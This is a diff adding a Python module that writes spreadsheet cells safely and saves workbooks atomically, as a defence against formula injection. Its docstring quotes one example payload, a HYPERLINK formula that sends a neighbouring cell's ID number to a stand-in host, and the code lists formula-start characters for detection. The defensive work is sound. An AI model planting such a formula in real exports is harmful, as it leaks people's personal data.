@@ -1,0 +1,105 @@
+"""The one way the program writes spreadsheet cells and saves workbooks.
+
+Every value in an exported workbook came from someone's typing or a file someone sent: a citizen
+named `=HYPERLINK("http://x/?"&D6,"Xem")` must stay a name, not become a formula that sends the
+next row's ID number out when an officer clicks it. openpyxl turns any string starting with `=`
+into a formula, and Excel/LibreOffice treat text starting with `+ - @` (and tab/CR before them)
+as one when the cell is edited or the file goes through CSV. So:
+
+- `put`/`append` write text as a string cell (never a formula) and mark formula-like text with
+  Excel's quote prefix (`'`, shown nowhere, kept on editing); the value itself is unchanged, so
+  the file reads back exactly (a refusals file can be corrected and imported again).
+- `csv_value` is the same rule for CSV, which has no types: formula-like text gets a leading
+  apostrophe, the convention spreadsheets show as "this is text".
+- `save` writes the workbook atomically and cleanly: a full disk leaves neither a half file nor
+  a `ZipFile.__del__` traceback on stderr, only an OSError for the caller to word.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import secrets
+from collections.abc import Iterable
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from openpyxl import Workbook
+    from openpyxl.cell.cell import Cell
+    from openpyxl.worksheet.worksheet import Worksheet
+
+# What a spreadsheet may read as the start of a formula (OWASP's CSV-injection list).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+# A signed plain number ("-5", "+84 912 345 678") calls nothing and references nothing.
+_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d\s.,]*")
+
+
+def formula_like(text: str) -> bool:
+    """Whether a spreadsheet could take `text` for a formula (text to neutralise)."""
+    return text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)
+
+
+def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
+    """Write `value` to a cell: numbers and dates as themselves, text always as text."""
+    cell = sheet.cell(row=row, column=column)
+    cell.value = value
+    if isinstance(value, str):
+        # openpyxl has just made "=…" a formula; a value from data never is one.
+        cell.data_type = "s"
+        if formula_like(value):
+            cell.quotePrefix = True
+    return cell
+
+
+def append(sheet: Worksheet, values: Iterable[Any]) -> int:
+    """Write `values` as a new row below the last one; returns its row number."""
+    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
+    for column, value in enumerate(values, start=1):
+        put(sheet, row, column, value)
+    return row
+
+
+def csv_value(value: Any) -> Any:
+    """`value` made safe for a CSV cell: formula-like text gets a leading apostrophe."""
+    if isinstance(value, str) and formula_like(value):
+        return "'" + value
+    return value
+
+
+def save(book: Workbook, path: Path) -> Path:
+    """Save `book` to `path` atomically (temporary file beside it, fsync, one rename).
+
+    On any failure (a full disk: ENOSPC, EFBIG) the temporary file is removed, an existing
+    file at `path` is untouched, and the OSError is raised once — the zip archive is closed
+    here, so it cannot complain again later from its finaliser.
+    """
+    from zipfile import ZIP_DEFLATED, ZipFile
+
+    from openpyxl.writer.excel import ExcelWriter
+
+    path = Path(path)
+    tmp = path.with_name(f".{path.name}.{secrets.token_hex(4)}.part")
+    handle = open(tmp, "xb")  # noqa: SIM115 - closed below on every path
+    try:
+        archive = ZipFile(handle, "w", ZIP_DEFLATED, allowZip64=True)
+        try:
+            ExcelWriter(book, archive).write_data()
+            archive.close()
+        except BaseException:
+            # The archive's finaliser would try to write its directory to the full disk again
+            # and print a traceback; it has nothing left to do once its file is gone.
+            archive.fp = None
+            raise
+        handle.flush()
+        os.fsync(handle.fileno())
+        handle.close()
+        os.replace(tmp, path)
+    except BaseException:
+        try:
+            handle.close()
+        except OSError:
+            pass  # the buffered bytes could not be written either: the file is removed below
+        tmp.unlink(missing_ok=True)
+        raise
+    return path
